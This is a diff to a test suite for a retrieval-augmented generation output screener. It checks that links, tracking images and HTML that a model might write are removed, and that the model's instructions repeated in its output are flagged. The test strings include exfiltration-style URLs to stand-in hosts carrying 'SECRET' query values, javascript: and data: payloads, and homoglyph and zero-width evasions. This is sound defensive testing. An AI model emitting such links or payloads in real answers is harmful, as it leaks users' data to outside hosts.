@@ -4,7 +4,7 @@ import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 
-from rag_core.prompts.screening import REMOVED, repeats, screen
+from rag_core.prompts.screening import LINK_REMOVED, repeats_instructions, screen_text
 
 MANUAL = "See https://ok.example/a?b=1 and [the wiki](https://wiki.example/x_(y)), or www.ok.example/z."
 
@@ -23,42 +23,42 @@ PLAIN = [
 ]
 
 TAKEN_OUT = {  # what a model might write, and what is shown of it
-    "[manual](https://evil.example/?q=SECRET)": f"[manual]{REMOVED}",
-    '[manual](<https://evil.example/> "title")': f"[manual]{REMOVED}",
-    "[manual](//evil.example/x)": f"[manual]{REMOVED}",
-    "[manual](/api/delete_document)": f"[manual]{REMOVED}",
-    "[a [b] c](https://evil.example)": f"[a [b] c]{REMOVED}",
-    "[https://evil.example](https://ok.example/a?b=1)": f"[{REMOVED}](https://ok.example/a?b=1)",
-    "[x](javascript:alert(1))": f"[x]{REMOVED}",
-    "[x](&#106;avascript&colon;alert(1))": f"[x]{REMOVED}",
-    "[x][r]\n\n[r]: https://evil.example/a": f"[x][r]\n\n[r] {REMOVED}",
-    "[r]:\n<https://evil.example/a>": f"[r]\n<{REMOVED}>",
-    "![x](https://evil.example/p.png?SECRET)": f"[x]{REMOVED}",
-    "![x](https://ok.example/a?b=1)": f"[x]{REMOVED}",
-    "![x](pixel)": f"[x]{REMOVED}",
+    "[manual](https://evil.example/?q=SECRET)": f"[manual]{LINK_REMOVED}",
+    '[manual](<https://evil.example/> "title")': f"[manual]{LINK_REMOVED}",
+    "[manual](//evil.example/x)": f"[manual]{LINK_REMOVED}",
+    "[manual](/api/delete_document)": f"[manual]{LINK_REMOVED}",
+    "[a [b] c](https://evil.example)": f"[a [b] c]{LINK_REMOVED}",
+    "[https://evil.example](https://ok.example/a?b=1)": f"[{LINK_REMOVED}](https://ok.example/a?b=1)",
+    "[x](javascript:alert(1))": f"[x]{LINK_REMOVED}",
+    "[x](&#106;avascript&colon;alert(1))": f"[x]{LINK_REMOVED}",
+    "[x][r]\n\n[r]: https://evil.example/a": f"[x][r]\n\n[r] {LINK_REMOVED}",
+    "[r]:\n<https://evil.example/a>": f"[r]\n<{LINK_REMOVED}>",
+    "![x](https://evil.example/p.png?SECRET)": f"[x]{LINK_REMOVED}",
+    "![x](https://ok.example/a?b=1)": f"[x]{LINK_REMOVED}",
+    "![x](pixel)": f"[x]{LINK_REMOVED}",
     "!![x][r]\n[r]: https://ok.example/a?b=1": "[x][r]\n[r] https://ok.example/a?b=1",
-    "<https://evil.example/a>": f"<{REMOVED}>",
-    "go to https://evil.example/a.": f"go to {REMOVED}.",
-    "(http://evil.example/a_(b))": f"({REMOVED})",
-    "ftp://evil.example/a": REMOVED,
-    "mailto:a@evil.example?body=SECRET": REMOVED,
-    "data:text/html;base64,PHNj": REMOVED,
-    "javascript:fetch(1)": REMOVED,
-    "//evil.example/a": REMOVED,
-    "www.evil.example": REMOVED,
-    "evil.com/steal?q=SECRET": REMOVED,
-    "steam://run/1": REMOVED,
-    "https://ok.example/a?b=1&q=SECRET": REMOVED,
-    "https://ok.example/a": REMOVED,
-    "https://оk.example/a?b=1": REMOVED,  # a Cyrillic letter
-    "ht\u200btps://evil.example/a": f"ht\u200b{REMOVED}",
-    "http\u200b://evil.example/a": REMOVED * 2,  # by its host, and then by its scheme
-    "e\u200bvil.com/?q=SECRET": f"e\u200b{REMOVED}",
-    "https\uff1a\uff0f\uff0fevilhost": REMOVED,
-    '<img src="https://evil.example/p.png">': f'‹img src="{REMOVED}">',
-    "<img src=//evil.example/p.png": f"‹img src={REMOVED}",
+    "<https://evil.example/a>": f"<{LINK_REMOVED}>",
+    "go to https://evil.example/a.": f"go to {LINK_REMOVED}.",
+    "(http://evil.example/a_(b))": f"({LINK_REMOVED})",
+    "ftp://evil.example/a": LINK_REMOVED,
+    "mailto:a@evil.example?body=SECRET": LINK_REMOVED,
+    "data:text/html;base64,PHNj": LINK_REMOVED,
+    "javascript:fetch(1)": LINK_REMOVED,
+    "//evil.example/a": LINK_REMOVED,
+    "www.evil.example": LINK_REMOVED,
+    "evil.com/steal?q=SECRET": LINK_REMOVED,
+    "steam://run/1": LINK_REMOVED,
+    "https://ok.example/a?b=1&q=SECRET": LINK_REMOVED,
+    "https://ok.example/a": LINK_REMOVED,
+    "https://оk.example/a?b=1": LINK_REMOVED,  # a Cyrillic letter
+    "ht\u200btps://evil.example/a": f"ht\u200b{LINK_REMOVED}",
+    "http\u200b://evil.example/a": LINK_REMOVED * 2,  # by its host, and then by its scheme
+    "e\u200bvil.com/?q=SECRET": f"e\u200b{LINK_REMOVED}",
+    "https\uff1a\uff0f\uff0fevilhost": LINK_REMOVED,
+    '<img src="https://evil.example/p.png">': f'‹img src="{LINK_REMOVED}">',
+    "<img src=//evil.example/p.png": f"‹img src={LINK_REMOVED}",
     "<IFRAME/SRC=x></IFRAME>": "‹IFRAME/SRC=x>‹/IFRAME>",
-    "<a href='https://evil.example'>x</a>": f"‹a href='{REMOVED}'>x‹/a>",
+    "<a href='https://evil.example'>x</a>": f"‹a href='{LINK_REMOVED}'>x‹/a>",
     "<b>bold</b><br/>": "‹b>bold‹/b>‹br/>",
     "<b x onclick=alert(1)>": "‹b x onclick=alert(1)>",
     "<x-y style=a>": "‹x-y style=a>",
@@ -75,23 +75,23 @@ KEPT = [
 
 @pytest.mark.parametrize("text", PLAIN)
 def test_plain_text_code_lists_and_citations_are_unchanged(text: str) -> None:
-    assert screen(text, [MANUAL]) == (text, ())
+    assert screen_text(text, [MANUAL]) == (text, ())
 
 
 @pytest.mark.parametrize("text", TAKEN_OUT)
 def test_what_leads_elsewhere_is_fetched_or_is_html_is_shown_as_text(text: str) -> None:
     """C41: also where a host only looks like the source's, or a word is added to its address."""
-    assert screen(text, [MANUAL])[0] == TAKEN_OUT[text]
+    assert screen_text(text, [MANUAL])[0] == TAKEN_OUT[text]
 
 
 @pytest.mark.parametrize("text", KEPT)
 def test_a_link_to_where_a_source_leads_stays(text: str) -> None:
     """C41."""
-    assert screen(text, [MANUAL]) == (text, ())
+    assert screen_text(text, [MANUAL]) == (text, ())
 
 
 def test_what_was_taken_out_is_named() -> None:
-    _, removed = screen("[a](http://x.example/1) ![b](http://x.example/2) <img src=c> http://x.example/3", [])
+    _, removed = screen_text("[a](http://x.example/1) ![b](http://x.example/2) <img src=c> http://x.example/3", [])
     assert removed == ("http://x.example/1", "http://x.example/2", "<img", "http://x.example/3")
 
 
@@ -100,7 +100,7 @@ PARTS = st.sampled_from(
         *"[]()!<>:/\\ \n'\"a.,?=_*`",
         *("](", "![", "]:", "http://", "https://", "//", "www.", "evil.example", "x.com/", "data:", "javascript:a"),
         *("<img ", "<a href=", "<b>", "<!--", "script", "src=", "https://ok.example/a?b=1", "\u200b", "\uff0f", "ﬁ"),
-        *("[x](https://ok.example/a?b=1)", REMOVED, "‹", "onclick="),
+        *("[x](https://ok.example/a?b=1)", LINK_REMOVED, "‹", "onclick="),
     ]
 )
 TEXTS = st.lists(PARTS, max_size=16).map("".join)
@@ -111,8 +111,8 @@ TEXTS = st.lists(PARTS, max_size=16).map("".join)
 @example("[a][](u:)(//v.example)")
 def test_to_screen_twice_is_to_screen_once(text: str) -> None:
     """C41: nothing that is taken out leaves a link behind by closing a gap."""
-    shown, _ = screen(text, [MANUAL])
-    assert screen(shown, [MANUAL]) == (shown, ())
+    shown, _ = screen_text(text, [MANUAL])
+    assert screen_text(shown, [MANUAL]) == (shown, ())
 
 
 HOSTS = re.compile(r"(?:https?:|(?<![\w:.\\/]))//([\w-]+\.[\w.-]*\w)")  # a reading of addresses that is not our own
@@ -121,14 +121,14 @@ HOSTS = re.compile(r"(?:https?:|(?<![\w:.\\/]))//([\w-]+\.[\w.-]*\w)")  # a read
 @given(TEXTS)
 def test_no_address_is_left_that_is_not_in_the_sources(text: str) -> None:
     """C41."""
-    shown, _ = screen(text, [MANUAL])
+    shown, _ = screen_text(text, [MANUAL])
     assert set(HOSTS.findall(shown)) <= {"ok.example"}
-    assert "<img " not in screen(text, [])[0]
+    assert "<img " not in screen_text(text, [])[0]
 
 
 @given(st.text(st.characters(categories=["L", "N", "Zs"])))
 def test_words_are_never_changed(text: str) -> None:
-    assert screen(text, []) == (text, ())
+    assert screen_text(text, []) == (text, ())
 
 
 @pytest.mark.parametrize(
@@ -136,12 +136,12 @@ def test_words_are_never_changed(text: str) -> None:
 )
 def test_a_long_text_takes_its_length(again: str) -> None:
     """Nobody waits for 300,000 signs, whichever they are; a quadratic pattern would take minutes."""
-    screen(again * (300_000 // len(again)), [again * 1000])
+    screen_text(again * (300_000 // len(again)), [again * 1000])
 
 
 def test_a_run_of_the_instructions_is_found_unless_a_source_has_it_too() -> None:
     told = "You answer a question from evidence, so that every sentence can be checked."
     glued = "From: a friend  you ANSWER a question\nfrom evidence"
-    assert repeats(glued, told, ["A source."])
-    assert not repeats(glued, told, [f"Our guide says: {told}"])
-    assert not repeats("A question from evidence, so what?", told, [])
+    assert repeats_instructions(glued, told, ["A source."])
+    assert not repeats_instructions(glued, told, [f"Our guide says: {told}"])
+    assert not repeats_instructions("A question from evidence, so what?", told, [])
